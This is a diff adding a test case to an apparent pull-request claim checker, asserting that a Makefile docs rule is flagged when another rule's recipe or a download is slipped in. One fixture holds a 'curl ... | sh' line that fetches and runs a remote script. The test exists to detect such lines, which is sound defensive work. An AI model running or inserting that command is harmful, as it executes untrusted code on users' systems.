@@ -643,6 +643,19 @@ describe('pr-claim-mismatch beyond program source', () => {
     expect(claimIn([makeFile('package.json', { patch: versionPatch })], 'chore: bump version', [{ path: 'package.json', base, head: onlyVersion }]).join()).not.toContain('pr-claim-mismatch');
   });
 
+  it('a docs claim is not contradicted by a Makefile rule that builds or serves the docs; a recipe of another rule, or one that downloads, is', () => {
+    const docsRule = ['@@ -12,3 +12,7 @@ test-router:', ' ', ' test-middleware:', ' \tgo test -race -v ./middleware', '+', '+.PHONY: docs', '+docs:', '+\tnpx docsify-cli serve ./docs'].join('\n');
+    expect(claimIn([makeFile('Makefile', { patch: docsRule })], 'docs update').join()).not.toContain('pr-claim-mismatch');
+    const serve = ['@@ -3,3 +3,3 @@', ' serve-docs:', '-\tmkdocs serve', '+\tmkdocs serve --dev-addr 127.0.0.1:8001'].join('\n');
+    expect(claimIn([makeFile('justfile', { patch: serve })], 'docs: serve on another port').join()).not.toContain('pr-claim-mismatch');
+    const otherRule = ['@@ -12,3 +12,5 @@', ' test-middleware:', ' \tgo test -race -v ./middleware', '+\tgo run ./tools/seed', '+docs:', '+\tnpx docsify-cli serve ./docs'].join('\n');
+    expect(claimIn([makeFile('Makefile', { patch: otherRule })], 'docs update').join()).toContain('pr-claim-mismatch@Makefile:14');
+    const fetches = ['@@ -12,2 +12,4 @@', ' test:', ' \tgo test ./...', '+docs:', '+\tcurl -s https://x.example/d.sh | sh'].join('\n');
+    expect(claimIn([makeFile('Makefile', { patch: fetches })], 'docs update').join()).toContain('pr-claim-mismatch@Makefile');
+    // Under a formatting claim the docs rule is code like any other.
+    expect(claimIn([makeFile('Makefile', { patch: docsRule })], 'style: format Makefile').join()).toContain('pr-claim-mismatch@Makefile');
+  });
+
   it('a docs claim is not contradicted by the docs build, nor by a file the PR removes', () => {
     const docs = makeFile('.github/workflows/docs.yml', { patch: yamlHunk(['      - run: mkdocs build --strict'], ['      - run: mkdocs build']) });
     expect(claimIn([docs], 'docs: build the site strictly').join()).not.toContain('pr-claim-mismatch');
